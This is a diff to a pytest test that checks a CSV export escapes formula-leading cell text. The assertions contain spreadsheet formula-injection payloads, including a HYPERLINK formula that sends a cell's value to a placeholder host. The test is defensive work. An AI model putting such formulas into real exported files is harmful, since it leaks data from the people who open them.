@@ -240,8 +240,7 @@ def test_csv_export_neutralises_formula_leading_text(manager_client):
     header, row = csv_rows(manager_client.get(reverse("admin:dashboard_stalled"), {"format": "csv"}))
 
     assert row[header.index("order id")] == '\'=HYPERLINK("http://x/?"&B2,"Claim")'
-    assert row[header.index("destination city")] == "'@SUM(1+1)"
-    assert row[header.index("destination province")] == "'+1+2"
+    assert row[header.index("destination")] == "'+1+2 @SUM(1+1)"
 
 
 @pytest.mark.parametrize(
